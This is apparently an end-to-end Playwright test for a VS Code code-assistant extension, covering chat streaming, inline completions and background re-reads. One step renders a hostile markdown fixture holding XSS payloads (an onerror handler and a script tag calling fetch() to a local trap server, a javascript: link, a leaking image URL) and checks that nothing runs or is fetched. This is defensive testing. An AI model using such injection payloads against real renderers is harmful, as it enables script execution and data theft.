// End-to-end test in a real VS Code (code-server 4.100.3, offline) driven by Playwright + Debian chromium.
// Needs `bash test/e2e/install.sh` and a packaged .vsix (`npm run package`); `npm run test:e2e` does all three.
// Steps: trust the workspace and watch the status-bar gauge change during ingest; Ask About Codebase and see
// the streamed answer in the sidebar chat; open the memory panel and see its chart; type in a file and accept
// an inline completion; render hostile model output in the chat and check nothing runs and nothing is fetched;
// then completions during background work: type right after asking a question and accept the ghost text with
// Tab while the answer still streams (the answer must have begun before the ghost text and go on after it),
// and save a file (Ctrl+S) and accept a completion with Tab while the re-read it starts runs (the status bar
// must show the re-read, with files still to read, when the ghost text appears). Each prints its times (ms
// from typing to the ghost text) and leaves a screenshot of that moment (6a-…, 7a-…).
// No `sidewinder.model` setting: like a fresh install, it runs the model bundled in the .vsix (models/default),
// and checks from the extension's log that it did. The sample workspace is three tiny files and one generated
// Python file with a long path (~1,800 tokens in all): the re-read lasts ~15-20 s and the answer (a path, for
// the bundled model) streams for ~6 s. On a 2-core CPU with lavapipe the run takes about 1 minute (about
// 1.3 minutes with `npm run package`).
// Screenshots and the extension's log go to test/e2e/artifacts/. Ends with `N passed, M failed`.

import { spawn, execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as http from 'node:http';
import * as os from 'node:os';
import * as path from 'node:path';
import { createRequire } from 'node:module';

const here = path.dirname(new URL(import.meta.url).pathname);
const repo = path.resolve(here, '..', '..');
const tools = path.join(here, '.tools', 'node_modules');
const require = createRequire(path.join(tools, 'x.js'));
const { chromium } = require('playwright-core');
const codeServer = path.join(tools, '.bin', 'code-server');
const artifacts = path.join(here, 'artifacts');
fs.mkdirSync(artifacts, { recursive: true });

const vsix = fs.readdirSync(repo).filter((f) => f.endsWith('.vsix')).map((f) => path.join(repo, f))[0];
if (!vsix) throw new Error('no .vsix in the repository root: run `npm run package` first.');

// A fresh profile, extensions dir and sample workspace (removed at the end).
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'sw-e2e-'));
const userData = path.join(tmp, 'user');
const extDir = path.join(tmp, 'ext');
const ws = path.join(tmp, 'workspace');
fs.mkdirSync(path.join(userData, 'User'), { recursive: true });
fs.mkdirSync(path.join(ws, 'src'), { recursive: true });
fs.writeFileSync(path.join(ws, 'src', 'alpha.py'), 'def alpha(x):\n    """Adds one."""\n    return x + 1\n');
fs.writeFileSync(path.join(ws, 'src', 'beta.ts'), 'export function beta(s: string): string {\n  return s.trim();\n}\n');
fs.writeFileSync(path.join(ws, 'notes.md'), '# Notes\n\nalpha is in src/alpha.py.\n');
// A bigger file, so that the re-read a save starts lasts long enough to type during it (the workspace is under
// one checkpoint interval, so a save re-reads all of it). Its path is long on purpose: the bundled model
// answers with a path, token by token, and this one keeps the answer streaming long enough to type meanwhile.
const longDir = path.join('src', 'generated', 'lookup_tables', 'scaled_values', 'end_to_end', 'kept_long_so_that_the_answer_streams_for_a_while');
const longFile = path.join(longDir, 'scaled_value_helpers_generated_for_the_streaming_test.py');
fs.mkdirSync(path.join(ws, longDir), { recursive: true });
fs.writeFileSync(
  path.join(ws, longFile),
  Array.from({ length: 16 }, (_, i) => `def scaled_value_${i}(value, scale=${i + 2}):\n    """Returns value times ${i + 2}, plus ${i * 3}."""\n    return value * scale + ${i * 3}\n`).join('\n\n'),
);
// No `sidewinder.model`: the bundled model is used, as on a fresh install.
fs.writeFileSync(
  path.join(userData, 'User', 'settings.json'),
  JSON.stringify({
    'sidewinder.completion.debounceMs': 50,
    'sidewinder.completion.maxTokens': 6,
    'sidewinder.chat.maxAnswerTokens': 128, // answers are paths: the longest here is about 50 tokens
    'workbench.startupEditor': 'none',
    // VS Code in a browser saves after a 1 s delay by default: every edit would start a re-read. Saves are Ctrl+S here.
    'files.autoSave': 'off',
    // No suggest widget: while one of its items is selected, the inline completion provider stays out of the way.
    'editor.quickSuggestions': { other: 'off', comments: 'off', strings: 'off' },
    'editor.suggestOnTriggerCharacters': false,
    'editor.wordBasedSuggestions': 'off',
    'extensions.autoCheckUpdates': false,
    'extensions.autoUpdate': false,
    'telemetry.telemetryLevel': 'off',
  }),
);

// A local server stands in for an attacker's host: any request to it means model output leaked data.
let leaks = 0;
const trap = http.createServer((req, res) => {
  leaks++;
  res.end('');
});
await new Promise((r) => trap.listen(0, '127.0.0.1', r));
const trapUrl = `http://127.0.0.1:${trap.address().port}`;
const hostile = path.join(tmp, 'hostile.md');
fs.writeFileSync(
  hostile,
  [
    'Here is the answer.',
    '',
    `<img src=x onerror="window.__pwned = 1; fetch('${trapUrl}/onerror')">`,
    '',
    `<script>window.__pwned = 2; fetch('${trapUrl}/script')</script>`,
    '',
    '[click me](javascript:window.__pwned=3)',
    '',
    `![leak](${trapUrl}/leak.png?secret=42)`,
    '',
    '`src/alpha.py` is a file.',
  ].join('\n'),
);

execFileSync(codeServer, ['--extensions-dir', extDir, '--user-data-dir', userData, '--install-extension', vsix], { stdio: 'inherit' });

const port = 20000 + Math.floor(Math.random() * 20000);
const server = spawn(
  codeServer,
  ['--auth', 'none', '--bind-addr', `127.0.0.1:${port}`, '--disable-telemetry', '--disable-update-check', '--user-data-dir', userData, '--extensions-dir', extDir, ws],
  { env: { ...process.env, SIDEWINDER_E2E: '1', SIDEWINDER_E2E_MARKDOWN: hostile }, stdio: ['ignore', 'pipe', 'pipe'], detached: true },
);
const serverLog = fs.createWriteStream(path.join(artifacts, 'code-server.log'));
server.stdout.pipe(serverLog);
server.stderr.pipe(serverLog);

const results = [];
let browser;
let page;
async function step(name, fn) {
  const t0 = Date.now();
  try {
    await fn();
    results.push([name, true]);
    console.log(`PASS ${name} (${((Date.now() - t0) / 1000).toFixed(1)} s)`);
  } catch (e) {
    results.push([name, false]);
    console.log(`FAIL ${name}: ${e?.stack ?? e}`);
  }
  if (page) await page.screenshot({ path: path.join(artifacts, `${results.length}-${name.replace(/[^a-z0-9]+/gi, '-')}.png`) }).catch(() => {});
}

async function command(title) {
  await page.keyboard.press('Escape');
  await page.keyboard.press('Control+Shift+P');
  const input = page.locator('.quick-input-widget:visible input');
  await input.waitFor({ state: 'visible', timeout: 15000 });
  await input.fill('>' + title);
  await page.locator('.quick-input-list .monaco-list-row', { hasText: title }).first().waitFor({ timeout: 15000 });
  await input.press('Enter');
}

/** The extension's log (its LogOutputChannel, written under the profile's logs folder), or ''. */
function extensionLog() {
  const found = [];
  const walk = (d) => {
    for (const e of fs.readdirSync(d, { withFileTypes: true })) {
      const p = path.join(d, e.name);
      if (e.isDirectory()) walk(p);
      else if (e.name === 'Sidewinder.log') found.push(p);
    }
  };
  try {
    walk(path.join(userData, 'logs'));
  } catch {
    return '';
  }
  return found.map((f) => fs.readFileSync(f, 'utf8')).join('\n');
}

async function frameWith(selector, timeoutMs = 60000) {
  const deadline = Date.now() + timeoutMs;
  while (Date.now() < deadline) {
    for (const f of page.frames()) if (await f.locator(selector).count().catch(() => 0)) return f;
    await page.waitForTimeout(250);
  }
  throw new Error(`no webview frame shows ${selector}`);
}

/**
 * Records, with wall-clock times, when ghost text shows or goes in an editor and when the status bar shows a
 * workspace read (the window progress `Sidewinder: reading …`, or the gauge's `N% · T tok`): window.__timeline.
 */
async function watchTimeline() {
  await page.evaluate(() => {
    if (window.__timeline) return;
    const events = (window.__timeline = []);
    window.__ghostNow = false;
    window.__readingNow = false;
    const record = () => {
      const ghost = document.querySelector('.monaco-editor .ghost-text-decoration, .monaco-editor .ghost-text-decoration-preview, .monaco-editor .ghost-text') !== null;
      if (ghost !== window.__ghostNow) events.push({ t: Date.now(), what: 'ghost', on: (window.__ghostNow = ghost) });
      const texts = [...document.querySelectorAll('.statusbar-item')].map((i) => i.textContent.trim());
      const reading = texts.filter((t) => /\breading\b/i.test(t) || /^\d+% · .*tok$/.test(t)).join(' | ');
      window.__readingText = reading;
      if (!!reading !== window.__readingNow) events.push({ t: Date.now(), what: 'reading', on: (window.__readingNow = !!reading), text: reading });
    };
    record();
    new MutationObserver(record).observe(document.body, { childList: true, subtree: true, characterData: true });
  });
}

/** Opens a workspace file by name with quick open; returns the active editor's lines, clicked into. */
async function openInEditor(name) {
  await page.keyboard.press('Escape');
  await page.keyboard.press('Control+Shift+P');
  const input = page.locator('.quick-input-widget:visible input');
  await input.waitFor({ state: 'visible', timeout: 15000 });
  await input.fill(name);
  await page.locator('.quick-input-list .monaco-list-row', { hasText: name }).first().waitFor({ timeout: 15000 });
  await input.press('Enter');
  await page.locator('.tab.active', { hasText: name }).first().waitFor({ timeout: 30000 });
  const editor = page.locator('.editor-group-container.active .monaco-editor .view-lines').first();
  await editor.waitFor({ timeout: 30000 });
  await editor.click();
  return editor;
}

/** The document text an editor shows, without its ghost text (rendered inside the same lines). */
function docText(editor) {
  return editor.evaluate((el) => {
    const copy = el.cloneNode(true);
    for (const g of copy.querySelectorAll('[class*="ghost-text"]')) g.remove();
    return [...copy.querySelectorAll('.view-line')].map((l) => l.textContent.replace(/\u00a0/g, ' ')).join('\n');
  });
}

/**
 * Types `text` into the focused editor and waits (at most `timeoutMs`) for ghost text. A completion that comes
 * back empty shows nothing, and the editor asks again only when the text changes: then one more character is
 * typed (counted in `tries`). `ghostMs` is from the first key of the last try to the ghost text.
 */
async function typeAndWaitForGhost(editor, text, timeoutMs) {
  const t0 = Date.now();
  const deadline = t0 + timeoutMs;
  let tries = 0;
  let typedAt = t0;
  for (const more of [text, 'x', 'y', 'z']) {
    tries++;
    typedAt = Date.now();
    await page.keyboard.type(more);
    const typedMs = Date.now() - typedAt;
    // The keys are sent; the editor renders them when its renderer gets the CPU (a busy 2-core machine can lag
    // seconds behind during a re-read): wait for the typed text to show before waiting for ghost text.
    const want = text.replace(/[()]/g, '');
    let doc = await docText(editor);
    for (const shown = Date.now() + 10000; !doc.replace(/[()]/g, '').includes(want) && Date.now() < shown; ) {
      await page.waitForTimeout(50);
      doc = await docText(editor);
    }
    if (!doc.replace(/[()]/g, '').includes(want)) throw new Error(`the typing did not reach the editor within 10 s (it shows ${JSON.stringify(doc.slice(-80))})`);
    const until = Math.min(deadline, Date.now() + (more === text ? 25000 : 10000));
    while (Date.now() < until) {
      if (await page.evaluate(() => window.__ghostNow)) {
        const ghostAt = (await page.evaluate(() => window.__timeline)).findLast((e) => e.what === 'ghost' && e.on)?.t ?? Date.now();
        const suggestion = (await page.locator('.monaco-editor [class*="ghost-text"]').allTextContents()).join('').replace(/\u00a0/g, ' ');
        return { text, ghostAt, ghostMs: ghostAt - typedAt, typedAt: t0, typedMs, tries, suggestion, doc };
      }
      await page.waitForTimeout(25);
    }
    if (Date.now() >= deadline) break;
  }
  throw new Error(`no ghost text appeared within ${((Date.now() - t0) / 1000).toFixed(0)} s of typing (${tries} tries)`);
}

/** Accepts the ghost text with Tab and checks that the document now holds it. */
async function acceptWithTab(editor, typed) {
  const before = await docText(editor);
  await page.keyboard.press('Tab');
  await page.waitForTimeout(500);
  const after = await docText(editor);
  const first = typed.suggestion.split('\n')[0].trim();
  const line = after.split('\n').findLast((l) => l.includes(typed.text)) ?? after.slice(-60);
  if (after === before) throw new Error('accepting the suggestion with Tab did not change the document');
  if (first && !after.replace(/\s+/g, ' ').includes(first.replace(/\s+/g, ' '))) throw new Error(`the document does not hold the accepted ${JSON.stringify(first)} (${JSON.stringify(line)})`);
  return { line: line.trim() };
}

/** The host's trace lines for completions (`completion: done, 3 chars, fim, 812 ms`), with their times. */
function completionLines() {
  return extensionLog()
    .split('\n')
    .map((l) => l.match(/^(\d{4}-\d\d-\d\d) (\d\d:\d\d:\d\d\.\d{3}) \[trace\] (completion: .*)$/))
    .filter(Boolean)
    .map((m) => ({ t: new Date(`${m[1]}T${m[2]}`).getTime(), text: m[3] }));
}

/** Sets the Sidewinder log to Trace (Developer: Set Log Level), so completions are logged; best effort. */
async function traceLog() {
  try {
    await command('Developer: Set Log Level...');
    const input = page.locator('.quick-input-widget:visible input');
    await input.fill('Sidewinder');
    await page.locator('.quick-input-list .monaco-list-row', { hasText: 'Sidewinder' }).first().waitFor({ timeout: 5000 });
    await input.press('Enter');
    await page.waitForTimeout(300);
    await input.fill('Trace');
    await page.locator('.quick-input-list .monaco-list-row', { hasText: 'Trace' }).first().waitFor({ timeout: 5000 });
    await input.press('Enter');
    return true;
  } catch (e) {
    console.log(`  (could not set the Sidewinder log to Trace: ${String(e).split('\n')[0]})`);
    await page.keyboard.press('Escape');
    return false;
  }
}

try {
  // Wait for the server.
  for (let i = 0; ; i++) {
    try {
      await new Promise((res, rej) => http.get(`http://127.0.0.1:${port}/healthz`, (r) => (r.resume(), res())).on('error', rej));
      break;
    } catch {
      if (i > 120) throw new Error('code-server did not start; see test/e2e/artifacts/code-server.log');
      await new Promise((r) => setTimeout(r, 500));
    }
  }
  browser = await chromium.launch({
    executablePath: '/usr/bin/chromium',
    args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
  });
  page = await browser.newPage({ viewport: { width: 1400, height: 900 } });
  await page.goto(`http://127.0.0.1:${port}/?folder=${encodeURIComponent(ws)}`);
  await page.waitForSelector('.monaco-workbench', { timeout: 90000 });

  await step('trust, ingest and the status-bar gauge', async () => {
    // Record every text the gauge shows (a status-bar item with a codicon whose text is the product name, an
    // ingest progress or a memory total): a quick ingest could be over between two polls.
    await page.evaluate(() => {
      const texts = (window.__gaugeTexts = []);
      const gauge = /^(Sidewinder|\d+% · .*tok|[\d.,]+[KM]? tok|[\d.]+ [KMG]?B)$/;
      const record = () => {
        for (const item of document.querySelectorAll('.statusbar-item')) {
          if (!item.querySelector('.codicon')) continue;
          const t = item.innerText.trim();
          if (gauge.test(t) && texts[texts.length - 1] !== t) texts.push(t);
        }
      };
      record();
      new MutationObserver(record).observe(document.querySelector('.part.statusbar') ?? document.body, { childList: true, subtree: true, characterData: true });
    });
    await page.getByRole('button', { name: 'Yes, I trust the authors' }).click({ timeout: 60000 });
    // Wait for an ingest state (`N% · T tok`) followed by a memory total with its unit (`65 MB`).
    const isIngest = (t) => /tok$/.test(t);
    const isTotal = (t) => /^\d+(\.\d+)? [KMG]?B$/.test(t);
    const deadline = Date.now() + 240000;
    let texts = [];
    let final = '';
    let during = false;
    while (Date.now() < deadline) {
      texts = await page.evaluate(() => window.__gaugeTexts);
      const i = texts.findIndex(isIngest);
      if (i >= 0 && !during) {
        during = true; // ingest under way (or just over): a picture of the gauge at that moment, when in time
        await page.screenshot({ path: path.join(artifacts, '1a-the-gauge-during-ingest.png') }).catch(() => {});
      }
      final = i >= 0 ? (texts.slice(i + 1).findLast(isTotal) ?? '') : '';
      if (final) break;
      await page.waitForTimeout(200);
    }
    console.log(`  gauge texts seen: ${texts.join(' | ')}`);
    if (!texts.some(isIngest)) throw new Error(`the gauge showed no ingest progress (saw: ${texts.join(' | ')})`);
    if (!final) throw new Error(`the gauge showed no memory total after ingest (saw: ${texts.join(' | ')})`);
    // The engine ran the model bundled in the installed extension, not one from elsewhere.
    let started = '';
    for (let i = 0; i < 40 && !started; i++) {
      started = extensionLog().split('\n').find((l) => l.includes('starting the engine')) ?? '';
      if (!started) await page.waitForTimeout(250);
    }
    console.log(`  ${started.replace(/^.*?\[info\] /, '')}`);
    const bundled = started.match(/ on (\S+)$/)?.[1] ?? '';
    if (!bundled.startsWith(extDir + path.sep) || !bundled.endsWith(path.join('models', 'default'))) {
      throw new Error(`the engine did not start on the bundled model in ${extDir} (log: ${JSON.stringify(started)})`);
    }
  });

  await step('Ask About Codebase streams an answer into the sidebar chat', async () => {
    // Open the chat first and record every state of the newest answer, to see it grow as tokens arrive.
    await command('Sidewinder: Focus on Chat View');
    const chat = await frameWith('#log');
    await chat.evaluate(() => {
      const log = document.getElementById('log');
      const states = (window.__answerStates = []);
      const record = () => {
        const answers = log.querySelectorAll('.answer');
        const text = answers.length ? answers[answers.length - 1].textContent.trim() : '';
        if (text && states[states.length - 1] !== text) states.push(text);
      };
      new MutationObserver(record).observe(log, { childList: true, subtree: true, characterData: true });
    });
    await command('Sidewinder: Ask About Codebase');
    const input = page.locator('.quick-input-widget:visible input');
    await input.waitFor({ state: 'visible', timeout: 15000 });
    await input.fill('Where is alpha defined?');
    await input.press('Enter');
    await chat.locator('.answer').last().waitFor({ timeout: 120000 });
    // Done when the Stop button is disabled again and an answer is there.
    const deadline = Date.now() + 180000;
    let done = false;
    let states = [];
    while (Date.now() < deadline) {
      ({ done, states } = await chat.evaluate(() => ({ done: document.getElementById('stop').disabled === true, states: window.__answerStates })));
      if (done && states.length > 0) break;
      await page.waitForTimeout(100);
    }
    const text = states[states.length - 1] ?? '';
    console.log(`  answer: ${JSON.stringify(text.slice(0, 80))}, ${states.length} states while streaming: ${JSON.stringify(states.map((t) => t.slice(0, 24)))}`);
    if (!text) throw new Error('no answer text appeared in the chat');
    if (!done) throw new Error('the answer did not finish (Stop still enabled)');
    if (states.length < 2) throw new Error(`the answer did not stream: it appeared at once (${JSON.stringify(text)})`);
    // Let the view's title bar catch up (its Stop action goes with the generating context key) for the screenshot.
    await page.locator('.action-item a[aria-label^="Stop Generation"]').waitFor({ state: 'hidden', timeout: 5000 }).catch(() => {});
  });

  await step('Show Memory opens the memory panel with a chart', async () => {
    await command('Sidewinder: Show Memory');
    const panel = await frameWith('.uplot, canvas', 60000);
    const box = await panel.locator('canvas').first().boundingBox();
    if (!box || box.width < 50 || box.height < 30) throw new Error(`chart canvas too small: ${JSON.stringify(box)}`);
  });

  await step('an inline completion appears and is accepted with Tab', async () => {
    await page.keyboard.press('Escape');
    await page.keyboard.press('Control+Shift+P');
    const input = page.locator('.quick-input-widget:visible input');
    await input.waitFor({ state: 'visible', timeout: 15000 });
    await input.fill('beta.ts');
    await page.locator('.quick-input-list .monaco-list-row', { hasText: 'beta.ts' }).first().waitFor({ timeout: 15000 });
    await input.press('Enter');
    const editor = page.locator('.monaco-editor .view-lines').first();
    await editor.waitFor({ timeout: 30000 });
    await editor.click();
    await page.keyboard.press('Control+End');
    await page.keyboard.press('Enter');
    const before = await editor.innerText();
    await page.keyboard.type('export function gamma(');
    const ghost = page.locator('.ghost-text-decoration, .ghost-text, .ghost-text-decoration-preview').first();
    let shown = false;
    for (let i = 0; i < 6 && !shown; i++) {
      try {
        await ghost.waitFor({ timeout: 20000 });
        shown = true;
      } catch {
        await page.keyboard.type(' ');
        await page.keyboard.press('Backspace');
      }
    }
    if (!shown) throw new Error('no inline suggestion appeared');
    // The document text without the ghost text (which the editor renders inside the same lines).
    const docText = () =>
      editor.evaluate((el) => {
        const copy = el.cloneNode(true);
        for (const g of copy.querySelectorAll('[class*="ghost-text"]')) g.remove();
        return copy.textContent;
      });
    const typed = await docText();
    const suggestion = (await page.locator('.monaco-editor [class*="ghost-text"]').allTextContents()).join('');
    await page.keyboard.press('Tab');
    await page.waitForTimeout(500);
    const after = await docText();
    console.log(`  suggestion ${JSON.stringify(suggestion)}, line before ${JSON.stringify(typed.slice(-40))}, after ${JSON.stringify(after.slice(-40))}`);
    if (after === typed || after === before) throw new Error('accepting the suggestion did not change the document');
    if ((await page.locator('[class*="ghost-text"]').count()) > 0 && after === typed) throw new Error('the suggestion is still a ghost');
  });

  await step('hostile model output runs nothing and fetches nothing', async () => {
    await command('Sidewinder: Render Test Markdown (end-to-end test)');
    const chat = await frameWith('#log');
    await chat.locator('.answer', { hasText: 'Here is the answer.' }).last().waitFor({ timeout: 30000 });
    await page.waitForTimeout(1500);
    const answer = chat.locator('.answer', { hasText: 'Here is the answer.' }).last();
    const pwned = await chat.evaluate(() => window.__pwned ?? 0);
    const scripts = await answer.locator('script').count();
    const imgs = await answer.locator('img').count();
    const jsLinks = await answer.locator('a[href^="javascript:"]').count();
    const html = await answer.innerHTML();
    if (pwned) throw new Error(`injected code ran (__pwned = ${pwned})`);
    if (scripts || imgs || jsLinks) throw new Error(`live elements in the answer: ${scripts} script, ${imgs} img, ${jsLinks} javascript: links`);
    if (/onerror\s*=/i.test(html.replace(/&lt;[^&]*&gt;/g, ''))) throw new Error('an onerror attribute survived');
    if (leaks > 0) throw new Error(`${leaks} request(s) reached the trap server`);
  });

  await step('a completion is accepted with Tab while an answer streams', async () => {
    await watchTimeline();
    await traceLog(); // the host then logs each completion with the engine's time for it (waiting included)
    const editor = await openInEditor('alpha.py');
    await page.keyboard.press('Control+End');
    await page.keyboard.press('Enter');
    // Record every state of the newest answer and of the Stop button, with wall-clock times (shared by frames).
    await command('Sidewinder: Focus on Chat View');
    const chat = await frameWith('#log');
    const turnsBefore = await chat.evaluate(() => {
      const log = document.getElementById('log');
      const stop = document.getElementById('stop');
      const states = (window.__answerTimeline = []);
      const record = () => {
        const turns = log.querySelectorAll('section.turn');
        const answer = turns.length ? turns[turns.length - 1].querySelector('.answer') : null;
        const s = { t: Date.now(), turns: turns.length, text: answer?.textContent.trim() ?? '', generating: stop.disabled !== true };
        const last = states[states.length - 1];
        if (!last || last.turns !== s.turns || last.text !== s.text || last.generating !== s.generating) states.push(s);
      };
      record();
      new MutationObserver(record).observe(log, { childList: true, subtree: true, characterData: true });
      new MutationObserver(record).observe(stop, { attributes: true });
      return log.querySelectorAll('section.turn').length;
    });
    // Focus the editor again (Focus on Chat View moved it), then ask: the input box gives the focus back to it.
    await editor.click();
    await page.keyboard.press('Control+End');
    await command('Sidewinder: Ask About Codebase');
    const input = page.locator('.quick-input-widget:visible input');
    await input.waitFor({ state: 'visible', timeout: 15000 });
    await input.fill('Where is scaled_value_7 defined?');
    await input.press('Enter');
    const asked = Date.now();
    // The input box closes once the extension has the question, and gives the focus back to the editor.
    await input.waitFor({ state: 'hidden', timeout: 15000 });
    // Type at once, while the engine works on the answer.
    const typed = await typeAndWaitForGhost(editor, 'def gamma', 60000);
    const ghostAt = typed.ghostAt;
    await page.screenshot({ path: path.join(artifacts, '6a-ghost-text-while-the-answer-streams.png') }).catch(() => {});
    const accepted = await acceptWithTab(editor, typed);
    // Let the answer finish, then compare the times.
    const deadline = Date.now() + 120000;
    let states = [];
    for (;;) {
      states = (await chat.evaluate(() => window.__answerTimeline)).filter((s) => s.turns > turnsBefore);
      if (states.length && !states[states.length - 1].generating && states[states.length - 1].text) break;
      if (Date.now() > deadline) throw new Error(`the answer did not finish in 120 s (${JSON.stringify(states.slice(-2))})`);
      await page.waitForTimeout(100);
    }
    const firstToken = states.find((s) => s.generating && s.text)?.t ?? NaN;
    const ended = states.find((s) => !s.generating && s.t > firstToken)?.t ?? NaN;
    const before = states.filter((s) => s.generating && s.text && s.t <= ghostAt).length;
    const after = states.filter((s) => s.generating && s.text && s.t > ghostAt).length;
    const answer = states[states.length - 1].text;
    console.log(
      `  typed ${typed.typedAt - asked} ms after asking; ghost text ${typed.ghostMs} ms after typing (${typed.tries} ${typed.tries === 1 ? 'try' : 'tries'}); ` +
        `answer ${JSON.stringify(answer)}: first token ${firstToken - asked} ms after asking, ${before} answer states before the ghost text, ` +
        `${after} after it, the answer ended ${ended - ghostAt} ms after it`,
    );
    console.log(`  suggestion ${JSON.stringify(typed.suggestion)}, line after Tab ${JSON.stringify(accepted.line)}`);
    const served = completionLines().filter((l) => l.t >= asked);
    if (served.length) console.log(`  engine: ${served.map((l) => l.text).join('; ')}`);
    if (!(firstToken <= ghostAt)) throw new Error('the ghost text appeared before the first token of the answer: the completion ran before the answer, not during it');
    // The answer went on growing after the ghost text (two renders at least: one could be a frame's delay).
    if (!(ended > ghostAt)) throw new Error(`the answer had ended ${ghostAt - ended} ms before the ghost text appeared: they did not overlap`);
    if (after < 2) throw new Error(`the answer hardly went on after the ghost text (${after} states): the completion waited for it`);
  });

  await step('a completion is accepted with Tab during the re-read a save started', async () => {
    await watchTimeline();
    const editor = await openInEditor('alpha.py');
    await page.keyboard.press('Escape');
    await page.keyboard.press('Control+End');
    await page.keyboard.press('Enter');
    await page.keyboard.type('# saved by the end-to-end test');
    await page.keyboard.press('Escape');
    const logBefore = extensionLog().split('\n').length;
    await page.keyboard.press('Control+S');
    const saved = Date.now();
    // The save starts a background re-read after the indexer's 1.5 s debounce: wait for it in the status bar.
    let readingAt = NaN;
    for (const deadline = Date.now() + 20000; Date.now() < deadline && !(readingAt > 0); ) {
      readingAt = (await page.evaluate(() => window.__timeline)).find((e) => e.what === 'reading' && e.on && e.t >= saved)?.t ?? NaN;
      if (!(readingAt > 0)) await page.waitForTimeout(50);
    }
    if (!(readingAt > 0)) throw new Error('no re-read showed in the status bar within 20 s of the save');
    const readingText = (await page.evaluate(() => window.__timeline)).find((e) => e.what === 'reading' && e.on && e.t >= saved)?.text ?? '';
    await page.keyboard.press('Enter');
    const typed = await typeAndWaitForGhost(editor, 'def delta', 90000);
    const ghostAt = typed.ghostAt;
    const statusAtGhost = await page.evaluate(() => window.__readingText);
    await page.screenshot({ path: path.join(artifacts, '7a-ghost-text-during-the-re-read.png') }).catch(() => {});
    const accepted = await acceptWithTab(editor, typed);
    // Let the re-read finish (the next steps, and the log, need it).
    let endedAt = NaN;
    for (const deadline = Date.now() + 180000; Date.now() < deadline && !(endedAt > 0); ) {
      endedAt = (await page.evaluate(() => window.__timeline)).find((e) => e.what === 'reading' && !e.on && e.t > readingAt)?.t ?? NaN;
      if (!(endedAt > 0)) await page.waitForTimeout(200);
    }
    await page.waitForTimeout(500);
    const synced = extensionLog().split('\n').slice(logBefore).find((l) => / files, \d+ tokens in the state/.test(l)) ?? '';
    console.log(
      `  re-read showed ${readingAt - saved} ms after the save (${JSON.stringify(readingText)}); ghost text ${typed.ghostMs} ms after typing ` +
        `(${typed.tries} ${typed.tries === 1 ? 'try' : 'tries'}), ${ghostAt - readingAt} ms into the re-read and ${endedAt - ghostAt} ms before it ended`,
    );
    console.log(`  status bar at the ghost text: ${JSON.stringify(statusAtGhost)}`);
    console.log(`  suggestion ${JSON.stringify(typed.suggestion)}, line after Tab ${JSON.stringify(accepted.line)}`);
    console.log(`  ${synced.replace(/^.*?\[info\] /, '') || 'no sync line in the log after the save'}`);
    const served = completionLines().filter((l) => l.t >= saved);
    if (served.length) console.log(`  engine: ${served.map((l) => l.text).join('; ')}`);
    // The status bar showed the re-read, without a break, from before the ghost text appeared until after it.
    const readingEvents = (await page.evaluate(() => window.__timeline)).filter((e) => e.what === 'reading' && e.t >= readingAt);
    const lastBefore = readingEvents.findLast((e) => e.t <= ghostAt);
    if (!lastBefore?.on) throw new Error(`the re-read was over ${ghostAt - (lastBefore?.t ?? NaN)} ms before the ghost text appeared: they did not overlap`);
    if (!(endedAt > ghostAt)) throw new Error(`the re-read did not end after the ghost text appeared (ended at ${endedAt - ghostAt} ms)`);
    // ... and it still had files to read then: the completion did not wait for the reading to be over (its last
    // moments, before the snapshot is saved, still show as reading).
    const files = statusAtGhost.match(/(\d+)\/(\d+) files/);
    const percent = statusAtGhost.match(/(\d+)% · /);
    if (!(files ? Number(files[1]) < Number(files[2]) : percent ? Number(percent[1]) < 100 : false)) {
      throw new Error(`the re-read had read every file when the ghost text appeared (${JSON.stringify(statusAtGhost)}): the completion waited for it`);
    }
    if (!synced) throw new Error('the log shows no finished sync after the save');
  });
} catch (e) {
  results.push(['setup', false]);
  console.log(`FAIL setup: ${e?.stack ?? e}`);
  if (page) await page.screenshot({ path: path.join(artifacts, 'setup-failure.png') }).catch(() => {});
} finally {
  await browser?.close().catch(() => {});
  const exited = new Promise((r) => server.once('exit', r));
  try {
    process.kill(-server.pid, 'SIGTERM');
    await Promise.race([exited, new Promise((r) => setTimeout(r, 10000))]);
  } catch {}
  trap.close();
  // Keep the extension's log with the screenshots, then remove the profile and workspace.
  fs.writeFileSync(path.join(artifacts, 'sidewinder.log'), extensionLog());
  fs.rmSync(tmp, { recursive: true, force: true, maxRetries: 5, retryDelay: 500 });
}

const passed = results.filter(([, ok]) => ok).length;
const failed = results.length - passed;
console.log(`${passed} passed, ${failed} failed`);
process.exit(failed ? 1 : 0);
